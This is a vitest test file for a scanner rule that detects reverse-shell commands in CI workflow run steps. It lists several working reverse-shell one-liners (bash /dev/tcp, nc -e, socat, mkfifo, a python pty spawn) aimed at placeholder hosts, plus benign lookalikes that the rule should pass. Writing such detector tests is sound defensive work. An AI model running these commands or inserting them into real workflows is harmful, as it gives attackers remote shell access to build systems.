import { expect, test } from 'vitest'
import { findingsIn, workflowOf } from '../../workflow.ts'

const count = async (script: string) =>
  (await findingsIn('workflow/reverse-shell', workflowOf('push', `- run: |\n    ${script.replaceAll('\n', '\n    ')}`))).length

test.each([
  'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
  'sudo bash -c "bash -i >& /dev/tcp/evil.example/4444 0>&1"',
  'nc -e /bin/sh 203.0.113.7 4444',
  'ncat 203.0.113.7 4444 --sh-exec bash',
  'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f',
  'nc 203.0.113.7 4444 | bash',
  'socat TCP:203.0.113.7:4444 EXEC:/bin/bash',
  `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
])('%s', async (script) => {
  expect(await count(script)).toBe(1)
})

test.each([
  'until nc -z localhost 5432; do sleep 1; done',
  'echo ping | nc localhost 8080',
  '(echo > /dev/tcp/localhost/5432) >/dev/null 2>&1',
  'timeout 30 bash -c "until echo > /dev/tcp/localhost/80; do sleep 1; done"',
  "python3 -c 'import socket; print(socket.gethostname())'",
  'curl -sf https://example.com/install.sh | bash',
  'echo "nc -e /bin/sh"',
])('%s is fine', async (script) => {
  expect(await count(script)).toBe(0)
})
